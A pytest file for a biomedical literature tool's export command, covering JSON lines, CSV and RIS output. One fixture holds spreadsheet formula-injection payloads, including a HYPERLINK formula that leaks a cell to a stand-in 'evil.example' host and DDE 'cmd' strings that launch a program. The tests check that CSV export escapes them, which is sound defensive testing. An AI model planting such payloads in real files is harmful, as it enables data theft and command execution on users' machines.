"""``evidencewatch export``: JSON lines, CSV and RIS over the real CLI, and what each row holds."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner
from sqlmodel import Session

from evidencewatch.cli.main import cli
from evidencewatch.core.vocabulary import EXTRACTED_FIELDS
from evidencewatch.reporting.export import EXPORT_FIELDS
from factories import make_candidate, make_paper

TWO_GENES, SINGLE, PENDING, REJECTED = 93_000_001, 93_000_002, 93_000_003, 93_000_004
DECIDED = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)


@pytest.fixture
def exported(session: Session, db_url_engine) -> str:
    """A paper accepted for two genes, one for one gene, one pending, one rejected; the DB URL."""
    both = make_paper(
        session, TWO_GENES, "SLC7A5 and RELA in\nHER2+ tumours", doi="10.1000/two.genes"
    )
    both.record = {
        **both.record,
        "authors": [
            {"last_name": "Okafor", "fore_name": "Ada"},
            {"collective_name": "BIG Consortium"},
        ],
    }
    session.add(both)
    make_candidate(
        session,
        both,
        "SLC7A5",
        score=7.5,
        status="accepted",
        therapy_class="chemotherapy",
        agents=["anthracycline", "taxane"],
        direction="up",
        effect="resistance",
        alteration="mRNA",
        subtype="HER2-negative",
        model_system="patient tumours",
        evidence_level="B",
        statement="High SLC7A5 in non-responders\n(n = 120).",
        decided_by="alice",
        decided_at=DECIDED,
        provenance={
            "therapy_class": "machine",
            "agents": "machine",
            "direction": "curator",
            "effect": "machine",
            "alteration": "curator",
            "subtype": "curator",
            "model_system": "curator",
        },
    )
    make_candidate(
        session,
        both,
        "RELA",
        score=6.0,
        status="accepted",
        therapy_class="anti-HER2",
        agents=["trastuzumab"],
        direction="up",
        effect="resistance",
        statement="Nuclear p65 up in resistant clones.",
        decided_by="bob",
        decided_at=DECIDED,
    )
    make_candidate(
        session,
        make_paper(session, SINGLE, "CYP3A4 and taxanes"),
        "CYP3A4",
        score=5.0,
        status="accepted",
        therapy_class="chemotherapy",
        statement="CYP3A4 higher before treatment.",
        decided_at=DECIDED,
    )
    make_candidate(session, make_paper(session, PENDING, "ESR1 pending"), "ESR1", score=9.0)
    make_candidate(
        session,
        make_paper(session, REJECTED, "Rejected paper"),
        "RELA",
        score=1.0,
        status="rejected",
        reject_reason="alias_collision",
    )
    session.commit()
    return db_url_engine[0]


def _export(url: str, *args: str) -> tuple[str, str]:
    result = CliRunner().invoke(cli, ["--db", url, "export", *args])
    assert result.exit_code == 0, result.output
    return result.stdout, result.stderr


def test_jsonl_has_one_object_per_candidate_with_every_extracted_field_and_its_provenance(
    exported,
):
    out, err = _export(exported, "--format", "jsonl")
    rows = [json.loads(line) for line in out.splitlines()]
    assert err.strip() == "exported 5 candidates"
    assert [(r["pmid"], r["gene"]) for r in rows] == [  # best score first
        (PENDING, "ESR1"),
        (TWO_GENES, "SLC7A5"),
        (TWO_GENES, "RELA"),
        (SINGLE, "CYP3A4"),
        (REJECTED, "RELA"),
    ]
    for row in rows:
        for key in (
            "pmid",
            "gene",
            "status",
            "score",
            "title",
            "snippets",
            "provenance",
            *EXTRACTED_FIELDS,
        ):
            assert key in row, key
    slc = rows[1]
    assert slc["status"] == "accepted" and slc["score"] == 7.5
    assert slc["title"] == "SLC7A5 and RELA in\nHER2+ tumours"
    assert slc["snippets"] and all(isinstance(s, str) for s in slc["snippets"])
    assert {f: slc[f] for f in EXTRACTED_FIELDS} == {
        "therapy_class": "chemotherapy",
        "agents": ["anthracycline", "taxane"],
        "direction": "up",
        "effect": "resistance",
        "alteration": "mRNA",
        "subtype": "HER2-negative",
        "model_system": "patient tumours",
    }
    assert set(slc["provenance"]) == set(EXTRACTED_FIELDS)
    assert slc["provenance"]["direction"] == "curator"
    assert slc["statement"] == "High SLC7A5 in non-responders\n(n = 120)."
    assert slc["decided_at"].startswith("2026-11-20T09:30")
    assert rows[-1]["reject_reason"] == "alias_collision"


def test_jsonl_status_filter_keeps_only_that_status(exported):
    out, _err = _export(exported, "--format", "jsonl", "--status", "pending")
    assert [json.loads(line)["pmid"] for line in out.splitlines()] == [PENDING]


def test_csv_has_a_header_of_every_export_field_and_json_for_lists(exported):
    out, err = _export(exported, "--format", "csv", "--status", "accepted")
    reader = csv.DictReader(io.StringIO(out))
    assert tuple(reader.fieldnames or ()) == EXPORT_FIELDS
    rows = list(reader)
    assert err.strip() == "exported 3 candidates" and len(rows) == 3
    slc = next(r for r in rows if r["gene"] == "SLC7A5")
    assert json.loads(slc["agents"]) == ["anthracycline", "taxane"]
    assert json.loads(slc["provenance"])["alteration"] == "curator"
    assert slc["statement"] == "High SLC7A5 in non-responders\n(n = 120)."  # quoted, intact


def _ris_entries(text: str) -> list[list[tuple[str, str]]]:
    entries = []
    for block in text.split("ER  - ")[:-1]:
        lines = [line for line in block.strip().splitlines() if line]
        entries.append([(line[:2], line[6:]) for line in lines])
    return entries


def test_ris_has_one_entry_per_accepted_paper_with_a_keyword_per_gene(exported):
    out, err = _export(exported, "--format", "ris", "--status", "accepted")
    assert err.strip() == "exported 2 papers"
    entries = _ris_entries(out)
    assert [dict(e)["AN"] for e in entries] == [f"PMID:{TWO_GENES}", f"PMID:{SINGLE}"]
    both = entries[0]
    assert both[0] == ("TY", "JOUR")
    tags = [tag for tag, _value in both]
    assert all(len(tag) == 2 and tag.isupper() for tag in tags)
    values = dict(both)
    assert values["TI"] == "SLC7A5 and RELA in HER2+ tumours"  # one line
    assert [v for t, v in both if t == "AU"] == ["Okafor, Ada", "BIG Consortium"]
    assert values["DO"] == "10.1000/two.genes" and values["PY"] == "2026"
    assert values["UR"] == f"https://pubmed.ncbi.nlm.nih.gov/{TWO_GENES}/"
    assert [v for t, v in both if t == "KW"] == ["SLC7A5", "RELA"]
    assert [v for t, v in both if t == "N1"] == [
        "SLC7A5: High SLC7A5 in non-responders (n = 120).",
        "RELA: Nuclear p65 up in resistant clones.",
    ]
    assert [v for t, v in entries[1] if t == "KW"] == ["CYP3A4"]


def test_ris_leaves_out_papers_without_the_status_asked_for(exported):
    out, _err = _export(exported, "--format", "ris", "--status", "accepted")
    assert f"PMID:{PENDING}" not in out and f"PMID:{REJECTED}" not in out


def test_export_writes_to_a_file_with_output(exported, tmp_path):
    target = tmp_path / "accepted.jsonl"
    out, err = _export(exported, "--status", "accepted", "-o", str(target))
    assert out == "" and err.strip() == "exported 3 candidates"
    assert len(target.read_text(encoding="utf-8").splitlines()) == 3


FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full text")'
FORMULAS = {
    "title": FORMULA_TITLE,
    "journal": "+cmd|' /C calc'!A0",
    "statement": "-2+3 fold rise in non-responders",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "alteration": "\t=1+1",
    "subtype": "\r=1+1",
}


@pytest.fixture
def formulas(session: Session, db_url_engine) -> str:
    """One accepted candidate whose text cells all start like spreadsheet formulas; the DB URL."""
    paper = make_paper(session, 93_000_009, FORMULA_TITLE, journal=FORMULAS["journal"])
    make_candidate(
        session,
        paper,
        "ABCB1",
        score=2.0,
        status="accepted",
        model_score=-1.25,
        **{k: FORMULAS[k] for k in ("statement", "note", "alteration", "subtype")},
        model_system="MCF7 = 12 lines, '@' and '=' inside",
        decided_at=DECIDED,
    )
    session.commit()
    return db_url_engine[0]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_get_a_leading_quote(formulas):
    out, _err = _export(formulas, "--format", "csv")
    [row] = list(csv.DictReader(io.StringIO(out)))
    for name, text in FORMULAS.items():
        assert row[name] == "'" + text, name
    assert row["model_system"] == "MCF7 = 12 lines, '@' and '=' inside"  # only a first char counts
    assert row["gene"] == "ABCB1" and row["therapy_class"] == "endocrine"  # the rest untouched
    assert row["model_score"] == "-1.25"  # a number, not text: a spreadsheet reads it as one
    assert re.match(r'\d+,93000009,"ABCB1","accepted",2\.0,', out.splitlines()[1])  # text quoted


def test_jsonl_and_ris_keep_formula_like_text_exactly(formulas):
    out, _err = _export(formulas, "--format", "jsonl")
    row = json.loads(out)
    assert {name: row[name] for name in FORMULAS} == FORMULAS
    ris, _err = _export(formulas, "--format", "ris", "--status", "accepted")
    values = dict(_ris_entries(ris)[0])
    assert values["TI"] == FORMULA_TITLE and values["JO"] == FORMULAS["journal"]
    assert values["N1"] == "ABCB1: " + FORMULAS["statement"]


def test_exports_list_candidates_in_the_queues_order_equal_scores_included(session):
    """One order everywhere: the export follows review.queue's, ties and all."""
    from evidencewatch.reporting.export import iter_candidates
    from evidencewatch.review.queue import queue

    for gene, score in (("ESR1", 5.0), ("LYN", 7.0), ("RELA", 5.0), ("PCNA", 5.0)):
        make_candidate(session, None, gene, score=score)
    session.flush()

    exported = [c.id for c, _ in iter_candidates(session=session, status="pending")]
    queued = [i.candidate.id for i in queue(session=session).items]

    assert exported == queued and len(exported) == 4


def test_every_row_carries_its_papers_integrity_notices_in_json_lines_and_csv(session: Session):
    from datetime import date

    from evidencewatch.reporting.export import export_rows, iter_candidates, write_csv
    from evidencewatch.storage.models import IntegrityNotice

    flagged = make_paper(session, 95_000_001)
    make_candidate(session, flagged, "ESR1")
    make_candidate(session, make_paper(session, 95_000_002), "ESR1")
    session.add(
        IntegrityNotice(
            pmid=95_000_001, kind="erratum", notice_pmid=99_000_005, notice_date=date(2026, 11, 3)
        )
    )
    session.flush()
    rows = {
        r["pmid"]: r
        for r in export_rows(session=session, pairs=iter_candidates(session=session), batch=1)
    }
    [notice] = rows[95_000_001]["integrity"]
    assert (notice["kind"], notice["notice_pmid"], notice["notice_date"], notice["state"]) == (
        "erratum",
        99_000_005,
        "2026-11-03",
        "open",
    )
    assert rows[95_000_002]["integrity"] == []
    out = io.StringIO()
    write_csv(iter(rows.values()), out)
    by_pmid = {int(float(r["pmid"])): r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert json.loads(by_pmid[95_000_001]["integrity"])[0]["kind"] == "erratum"
    assert json.loads(by_pmid[95_000_002]["integrity"]) == []
